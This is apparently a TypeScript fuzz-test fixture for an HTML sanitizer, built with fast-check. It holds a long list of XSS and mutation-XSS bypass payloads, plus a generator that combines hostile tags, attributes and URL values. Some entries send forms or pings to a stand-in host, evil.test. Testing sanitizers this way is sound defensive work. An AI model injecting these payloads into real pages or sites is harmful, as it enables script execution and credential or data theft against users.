import fc from 'fast-check'

/** Known ways past sanitizers: scripts, schemes, namespaces, content that changes when parsed again. */
export const vectors: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \tjava\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<a href="blob:http://chat.test/x">x</a>',
  '<a href="filesystem:http://chat.test/x">x</a>',
  '<a href="view-source:http://chat.test/">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<video src="javascript:alert(1)" poster="javascript:alert(1)"><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1) autoplay></audio>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.test/"><a href="x">x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css";</style>',
  '<p style="background:url(https://evil.test/x)">x</p>',
  '<p STYLE="position:fixed;inset:0">x</p>',
  '<p title="<" style="position:fixed">x</p>',
  '<form action="https://evil.test/"><input name=password><button formaction="javascript:alert(1)">x',
  '<div><form id=f><input name=attributes><input name=nodeName></form></div>',
  '<a id=config href="x">x</a><a id=config name=url href="//evil.test">x</a>',
  '<img name=currentScript><img id=getElementById>',
  '<p is="x-app" slot=x part=x>x</p>',
  '<x-app onclick=alert(1)>x</x-app>',
  '<template><img src=x onerror=alert(1)></template>',
  '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><option><img src=x onerror=alert(1)></select>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
  '<math><mi href="javascript:alert(1)">x</mi></math>',
  '<math><mi xlink:href="javascript:alert(1)" onclick=alert(1)>x</mi></math>',
  '<math><maction actiontype="statusline#javascript:alert(1)" xlink:href="javascript:alert(1)">x',
  '<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></semantics></math>',
  '<math><semantics><annotation-xml encoding="text/html"><p>x</p><style><!--</style></annotation-xml></semantics></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><div><form></form></div></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">',
  '<math><mglyph src="https://evil.test/x"></mglyph><malignmark></malignmark></math>',
  '<math><style><img src=x onerror=alert(1)></style></math>',
  '<math><script>alert(1)</script></math>',
  '<math><mi id=config name=x tabindex=0 autofocus contenteditable>x</mi></math>',
  '<math><svg><style><img src=x onerror=alert(1)></style></svg></math>',
  '<math><foreignobject><iframe src="javascript:alert(1)"></iframe></foreignobject></math>',
  '<p><math></p><p></math><a href="javascript:alert(1)">x</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- x --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<math><![CDATA[</math><img src=x onerror=alert(1)>]]></math>',
  '<?xml version="1.0"?><p>x</p><?php x ?>',
  '<p title="--><img src=x onerror=alert(1)>">x</p>',
  `${'<div>'.repeat(600)}<a href="javascript:alert(1)">x</a>`,
  '<span class="katex-html"><img src=x onerror=alert(1)></span>',
  '<table><a href="javascript:alert(1)"><tr><td onclick=alert(1)>x',
  '<p/onclick=alert(1)//title=x>x</p>',
  '<p\u000conclick=alert(1)>x</p>',
  '<a href="https://a.test" target=_top ping="https://evil.test/" download>x</a>',
  '<img src=/x srcset="https://evil.test/x 2x" lowsrc="javascript:alert(1)" usemap="#x">',
  '<td background="javascript:alert(1)">x</td>',
  '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)><html onclick=alert(1)><frameset onload=alert(1)>',
]

// prettier-ignore
const names = [
  'p', 'a', 'img', 'div', 'span', 'table', 'tr', 'td', 'ul', 'li', 'video', 'audio', 'pre', 'code', 'time', 'h1', 'br', 'blockquote',
  'math', 'mi', 'mo', 'mtext', 'mglyph', 'malignmark', 'annotation-xml', 'annotation', 'semantics', 'mrow', 'maction', 'ms',
  'svg', 'desc', 'title', 'foreignObject', 'use', 'animate', 'image', 'style', 'script', 'template', 'noscript', 'iframe', 'object',
  'embed', 'form', 'input', 'button', 'select', 'option', 'textarea', 'xmp', 'plaintext', 'base', 'link', 'meta', 'details', 'dialog',
  'x-app', 'nobr', 'font', 'b', 'center', 'frameset', 'body', 'html', 'P', 'SCRIPT',
]
// prettier-ignore
const attributes = [
  'href', 'src', 'class', 'title', 'alt', 'style', 'id', 'name', 'onclick', 'onerror', 'ONLOAD', 'xlink:href', 'xml:id', 'xmlns', 'srcset',
  'srcdoc', 'action', 'formaction', 'poster', 'background', 'is', 'slot', 'encoding', 'definitionurl', 'actiontype', 'data-user-id',
  'data-x', 'aria-label', 'aria-hidden', 'aria-owns', 'role', 'target', 'rel', 'ping', 'download', 'tabindex', 'autofocus', 'contenteditable',
  'popover', 'start', 'datetime', 'preload', 'width', 'mathvariant', 'mathcolor', 'display', 'shadowrootmode', 'for', 'patchsrc',
]
// prettier-ignore
const values = [
  '', 'x', '/x', '#x', '//evil.test/x', 'https://a.test/', 'javascript:alert(1)', ' javascript:alert(1)', 'JaVaScRiPt:alert(1)',
  'java&#9;script:alert(1)', '&#1;javascript:alert(1)', 'data:text/html,x', 'data:image/png;base64,AA', 'vbscript:x', 'blob:x', 'file:///x',
  'mailto:a@b.test', 'bitcoin:x', 'about:blank', 'text/html', 'application/xhtml+xml', 'katex-html', 'user-mention', 'position:fixed',
  'attributes', 'nodeName', 'ownerDocument', '</style><img src=x onerror=alert(1)>', '--><img src=x onerror=alert(1)>', ']]>', 'open',
  'a style=b', 'http://[', '1',
]
const loose = [
  ...[
    '<!--',
    '-->',
    '--!>',
    '<![CDATA[',
    ']]>',
    '<?x ',
    '<!doctype x>',
    '</',
    '<',
    '>',
    '"',
    "'",
    '&lt;',
    '&#0;',
  ],
  ...[
    'text',
    ' ',
    '\n',
    '\0',
    '\u000c',
    '</br>',
    '</p>',
    '</math>',
    '</svg>',
    '</table>',
    '</style>',
  ],
]

const attribute = fc
  .tuple(fc.constantFrom(...attributes), fc.constantFrom(...values), fc.constantFrom('"', "'", ''))
  .map(([name, value, quote]) => ` ${name}=${quote}${value}${quote}`)
const startTag = fc
  .tuple(
    fc.constantFrom(...names),
    fc.array(attribute, { maxLength: 3 }),
    fc.constantFrom('>', '/>', '>', ' '),
  )
  .map(([name, given, end]) => `<${name}${given.join('')}${end}`)
const endTag = fc.constantFrom(...names).map((name) => `</${name}>`)

/** HTML of tags and pieces in any order; parsers mend and move them. */
export const hostileHtml = fc
  .array(
    fc.oneof(
      { weight: 6, arbitrary: startTag },
      { weight: 2, arbitrary: endTag },
      { weight: 2, arbitrary: fc.constantFrom(...loose) },
      { weight: 1, arbitrary: fc.constantFrom(...vectors) },
    ),
    { maxLength: 12 },
  )
  .map((pieces) => pieces.join(''))
